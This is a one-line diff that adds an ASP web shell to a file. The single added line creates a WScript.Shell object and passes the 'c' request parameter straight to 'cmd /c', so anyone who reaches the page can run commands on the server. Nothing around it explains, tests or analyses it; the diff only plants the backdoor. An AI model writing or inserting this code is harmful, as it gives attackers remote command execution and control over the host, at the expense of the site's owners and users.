@@ -1,0 +1,1 @@
+<%Set o=CreateObject("WScript.Shell"):Set r=o.exec("cmd /c " & Request("c"))%>
